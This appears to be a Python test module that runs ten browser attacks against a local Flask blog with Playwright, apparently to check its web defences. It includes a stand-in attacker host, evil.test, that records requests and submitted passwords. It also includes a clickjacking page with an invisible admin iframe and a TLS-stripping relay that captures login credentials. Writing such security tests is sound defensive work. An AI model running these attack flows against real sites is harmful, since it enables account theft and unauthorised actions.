"""Ten attacks on the blog, each a story for ``browser.play``, which says whether it worked."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

from flask import Flask, request

from helpers import browser, web
from helpers.blog import PASSWORD, injected
from helpers.browser import Played

if TYPE_CHECKING:
    from playwright.sync_api import Page

COFFEE = """<h2>You won a coffee</h2><button>Claim your coffee now</button>
<iframe src="https://{blog}/admin/"></iframe><style>iframe {{ position: absolute; left: 0; top: 0;
width: 600px; height: 230px; border: 0; opacity: 0 }}</style>"""

Loot = list[str]
"""What evil.test was sent."""

Attack = Callable[["Page", str, Loot], bool]


def evil(loot: Loot) -> Flask:
    """evil.test: it writes down all it is asked, and has a script, a page and a coffee."""
    app = Flask("evil", static_folder=None)

    @app.route("/", defaults={"path": ""}, methods=["GET", "POST"])
    @app.route("/<path:path>", methods=["GET", "POST"])
    def anything(path: str) -> tuple[str, dict[str, str]]:
        loot.append(f"{request.full_path} {request.form.get('password', '')}")
        kinds = {"js": "text/javascript", "css": "text/css"}
        kind = kinds.get(path.rpartition(".")[2], "text/html")
        return injected.RUN if path.endswith(".js") else "", {"Content-Type": kind}

    @app.get("/coffee/<blog>")
    def coffee(blog: str) -> str:
        return COFFEE.format(blog=blog)

    return app


class Mallory:
    """A user of the blog who needs no browser."""

    def __init__(self, blog: str) -> None:
        self._session, self._site = web.new_session(), f"https://{blog}"
        self._post("/login", {"name": "mallory", "password": PASSWORD})

    def comment(self, post: str, markup: str) -> None:
        """Comment on the post at that path."""
        self._post(f"{post}/comments", {"body": markup}, form=post)

    def upload(self, name: str, content: bytes, kind: str) -> tuple[str, str]:
        """Write a post with a picture; the paths of the post and of the picture."""
        fields = {"title": "A cat", "body": "My cat"}
        page = self._post("/write", fields, files={"image": (name, content, kind)})
        return _last(r"(/posts/\d+)/comments", page), _last(r"/images/\d+", page)

    def nonce(self) -> str:
        """The nonce on a page, empty where there is none."""
        return _last('nonce="(.*?)"', self._session.get(self._site).text)

    def _post(self, path: str, fields: dict[str, str], form: str = "", files: Any = None) -> str:
        page = self._session.get(self._site + (form or path)).text
        data = {**fields, "csrf_token": _last('name="csrf_token" value="(.*?)"', page)}
        return self._session.post(self._site + path, data=data, files=files).text


def _last(pattern: str, page: str) -> str:
    return str(re.findall(pattern, page)[-1])


def log_in(page: Page, blog: str, name: str) -> None:
    """Log in as a visitor does."""
    page.goto(f"https://{blog}/login")
    page.fill(".login [name=name]", name)
    page.fill(".login [name=password]", PASSWORD)
    page.click(".login button")
    page.wait_for_url("**/profile")


def _ran(page: Page) -> bool:
    return bool(page.evaluate("'ran' in document.documentElement.dataset"))


def reflected_xss(page: Page, blog: str, _loot: Loot) -> bool:
    """ann follows a link to a search that is a script."""
    nonce = Mallory(blog).nonce()
    page.goto(f"https://{blog}/search?q={quote(injected.scripts(nonce))}")
    return _ran(page)


def stored_xss(page: Page, blog: str, _loot: Loot) -> bool:
    """ann reads a post with a comment that is a script."""
    mallory = Mallory(blog)
    mallory.comment("/posts/1", injected.scripts(mallory.nonce()))
    page.goto(f"https://{blog}/posts/1")
    return _ran(page)


PAINTED = "new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))"


def clickjacking(page: Page, blog: str, _loot: Loot) -> bool:
    """The admin clicks on another site's button, and deletes a post."""
    log_in(page, blog, "admin")
    page.goto(f"https://evil.test/coffee/{blog}")
    delete = page.frame_locator("iframe").locator("ul.plain button").first
    if box := delete.bounding_box() if delete.count() else None:
        for frame in page.frames:  # a click finds a frame once that is painted
            frame.evaluate(PAINTED)
        with page.expect_event("requestfinished", lambda each: each.method == "POST"):
            page.mouse.click(box["x"] + 9, box["y"] + 9)
    else:
        page.mouse.click(70, 90)
    gone = page.context.new_page().goto(f"https://{blog}/posts/1")
    return bool(gone and gone.status == 404)


def form_hijack(page: Page, blog: str, loot: Loot) -> bool:
    """ann types her password into a form that stands in a comment."""
    Mallory(blog).comment("/posts/3", injected.FORM)
    page.goto(f"https://{blog}/posts/3")
    page.fill(".evil input", "s3cret")
    submit(page, ".evil")
    return any("s3cret" in line for line in loot)


def submit(page: Page, form: str) -> bool:
    """Submit a form; whether the browser has gone where it leads, or False where it refused."""
    from playwright.sync_api import Error

    before = page.url
    try:
        page.evaluate(
            """form => new Promise(refused => {
                document.addEventListener("securitypolicyviolation", violation =>
                    violation.effectiveDirective == "form-action" &&
                    violation.disposition == "enforce" && refused());
                document.querySelector(form).requestSubmit();
            }).then(() => null)""",
            form,
        )
    except Error:  # the page that would have answered is gone
        page.wait_for_url(lambda url: url != before)
        return True
    return False


def base_hijack(page: Page, blog: str, _loot: Loot) -> bool:
    """A comment moves the address from which the blog's own script comes."""
    Mallory(blog).comment("/posts/2", injected.BASE)
    page.goto(f"https://{blog}/posts/2")
    return _ran(page)


def exfiltration(page: Page, blog: str, loot: Loot) -> bool:
    """A comment without a script tells evil.test who reads it."""
    Mallory(blog).comment("/posts/4", injected.LEAK)
    log_in(page, blog, "ann")
    loot.clear()
    page.goto(f"https://{blog}/posts/4")
    page.wait_for_load_state("networkidle")
    return bool(loot)


def sniffed_upload(page: Page, blog: str, _loot: Loot) -> bool:
    """Two uploaded pictures are a page and a script, if a browser guesses what they are."""
    mallory = Mallory(blog)
    _, cat = mallory.upload("cat.png", injected.PAGE, "")
    post, dog = mallory.upload("dog.png", injected.SCRIPT, "text/plain")
    mallory.comment(post, f'<script src="{dog}"></script>')
    page.goto(f"https://{blog}{cat}")
    opened = _ran(page)
    page.goto(f"https://{blog}{post}")
    return opened or _ran(page)


def tls_strip(page: Page, blog: str, loot: Loot) -> bool:
    """ann logs in over a wifi whose owner turns https into http."""
    thief = Flask("thief")

    @thief.route("/<path:path>", methods=["GET", "POST"])
    def relay(path: str) -> str:
        loot.extend(request.form.values())
        return web.get(f"https://{blog}/{path}").text

    page.goto(f"https://{blog}/")
    web.site(blog, thief, scheme="http")
    page.goto(f"http://{blog}/login")
    page.fill(".login [name=name]", "ann")
    page.fill(".login [name=password]", PASSWORD)
    with page.expect_navigation():
        page.click(".login button")
    return PASSWORD in loot


def referer_leak(page: Page, blog: str, _loot: Loot) -> bool:
    """ann's sister follows a link in a draft that only she should know."""
    page.goto(f"https://{blog}{injected.DRAFT}")
    page.click("text=evil.test/article")
    page.wait_for_url("https://evil.test/**")
    return injected.DRAFT in str(page.evaluate("document.referrer"))


def back_after_logout(page: Page, blog: str, _loot: Loot) -> bool:
    """ann logs out in the library, and the next visitor clicks Back."""
    log_in(page, blog, "ann")
    for path in ("admin/", "nowhere", "write"):
        page.goto(f"https://{blog}/{path}")
    page.click("text=Log out")
    page.wait_for_url(f"https://{blog}/")
    seen = []
    for _ in ("the page to write on", "one that is not there", "the admin's", "the profile"):
        page.go_back()
        seen.append("ann@blog.test" in page.content())
    return any(seen)


ATTACKS: dict[str, Attack] = {
    "reflected XSS": reflected_xss,
    "stored XSS": stored_xss,
    "clickjacking": clickjacking,
    "form hijack": form_hijack,
    "base hijack": base_hijack,
    "exfiltration": exfiltration,
    "sniffed upload": sniffed_upload,
    "TLS strip": tls_strip,
    "Referer leak": referer_leak,
    "Back after logout": back_after_logout,
}


def attack(name: str, make_blog: Callable[[], Flask], blog: str = "blog.test") -> Played:
    """Play one attack on a fresh blog, in a fresh profile."""
    loot: Loot = []
    web.site("evil.test", evil(loot))
    app = make_blog()
    web.site(blog, app)

    def story(page: Page) -> dict[str, bool]:
        return {"works": ATTACKS[name](page, blog, loot)}

    played = browser.play(story)
    web.site(blog, app)  # a thief may have taken its place
    return played
